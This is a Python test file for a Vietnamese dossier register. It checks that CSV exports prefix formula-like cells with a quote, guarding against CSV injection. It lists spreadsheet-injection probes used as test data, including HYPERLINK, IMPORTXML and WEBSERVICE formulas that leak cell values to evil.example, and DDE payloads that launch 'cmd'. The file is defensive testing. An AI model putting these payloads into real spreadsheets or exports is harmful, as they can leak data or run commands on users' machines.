"""Formula-safe exports (issue 13, point 4): no cell of ``Register.to_csv`` can become a formula.

OWASP (CSV injection): prefix with ``'`` every cell starting with ``=``, ``+``, ``-``, ``@``, tab
or carriage return. The probes below are the shapes of the issue's 35 probes, written by hand.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hcc.dossiers import CSV_COLUMNS, Dossier, Register, RegisterBook, formula_safe_cell

PROBES: list[str] = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    '=HYPERLINK("http://evil.example")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+cmd|' /C calc'!A0",
    "+1+1",
    "+84 912 345 678",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A10)",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "-",
    "\t=1+1",
    "\t",
    "\tNguyễn Văn An",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "  +1+1",
    "\u00a0=1+1",
    "\u3000@SUM(A1)",
    "\n=1+1",
    " \t-2+3",
    "\uff1d1+1",  # full-width equals sign
    "\uff0bcmd|'/C calc'!A0",
    "\uff20SUM(A1)",
    "\uff0d2+3",
    "=",
    "@",
    "+",
    '="=HYPERLINK(""http://evil.example"")"',
]
"""Cells a spreadsheet could run (35): each must come out prefixed with a single quote."""

HARMLESS = [
    "Nguyễn Văn An",
    "Trần Thị Bình (con)",
    "0912345678",
    "1+1",
    "a=1",
    "Số 5, ngõ 2 - phường Nghi Phong",
    "'=1+1",  # already quoted: a quote first is text for every spreadsheet
    "",
    "100%",
    "(=1+1)",
]


@pytest.mark.parametrize("probe", PROBES)
def test_every_probe_is_prefixed_with_a_quote(probe: str) -> None:
    assert formula_safe_cell(probe) == "'" + probe


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert formula_safe_cell(text) == text


def test_probe_list_has_the_issue_count() -> None:
    assert len(PROBES) == len(set(PROBES)) == 35


def test_wrong_type_is_refused() -> None:
    with pytest.raises(TypeError, match="expected str"):
        formula_safe_cell(1)  # type: ignore[arg-type]


@given(st.text())
def test_result_is_the_text_or_the_quoted_text_and_never_a_formula(text: str) -> None:
    out = formula_safe_cell(text)
    assert out in (text, "'" + text)
    if out == text and text:
        assert text[0] not in "\t\r"
        assert text.lstrip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")
    assert formula_safe_cell(out) == out  # a quoted cell stays as it is: idempotent


def _book(names: list[str]) -> RegisterBook:
    book = RegisterBook(2026)
    for i, name in enumerate(names, start=1):
        book.add(
            Dossier.receive(
                code=f"000.00.01.H38-260302-{i:04d}",
                procedure_code="2.000815",
                procedure_name="Chứng thực bản sao từ bản chính",
                lead_agency="UBND xã",
                applicant=name,
                address='=HYPERLINK("http://evil.example")',
                phone="+84 912 345 678",
                note="@SUM(A1:A2)",
                time_limit="Trong ngày",
                at=dt.datetime(2026, 3, 2, 9, 0),
            )
        )
    return book


def _read(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [h for _, h in CSV_COLUMNS]
    return [dict(zip([f for f, _ in CSV_COLUMNS], r, strict=True)) for r in rows[1:]]


def test_register_csv_neutralises_applicant_address_phone_and_note() -> None:
    names = ["+cmd|' /C calc'!A0", "=1+1", "@SUM(1+1)", "-2+3", "Nguyễn Văn An"]
    rows = _read(_book(names).to_csv())
    assert len(rows) == len(names)
    for row in rows:
        for field in ("applicant", "address", "phone", "note", "procedure", "lead_agency"):
            cell = row[field]
            assert not cell or cell[0] not in "=+-@\t\r", (field, cell)
    assert [r["applicant"] for r in rows] == [
        "'+cmd|' /C calc'!A0",
        "'=1+1",
        "'@SUM(1+1)",
        "'-2+3",
        "Nguyễn Văn An",
    ]
    assert rows[0]["address"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[0]["phone"] == "'+84 912 345 678"
    # numbers stay numbers: the entry number and the number of sets are not prefixed
    assert [r["number"] for r in rows] == ["01", "02", "03", "04", "05"]
    assert all(r["sets"].isdigit() for r in rows)


def test_register_csv_raw_output_on_request() -> None:
    names = ["=1+1", "-2+3"]
    book = _book(names)
    rows = _read(book.to_csv(formula_safe=False))
    assert [r["applicant"] for r in rows] == names
    assert rows[0]["phone"] == "+84 912 345 678"
    with pytest.raises(ValueError, match="formula_safe"):
        book.to_csv(formula_safe="no")  # type: ignore[arg-type]


def test_register_facade_passes_the_switch() -> None:
    reg = Register()
    book = _book(["=1+1"])
    for d in book:
        reg.add(d)
    assert _read(reg.to_csv(2026))[0]["applicant"] == "'=1+1"
    assert _read(reg.to_csv(2026, formula_safe=False))[0]["applicant"] == "=1+1"
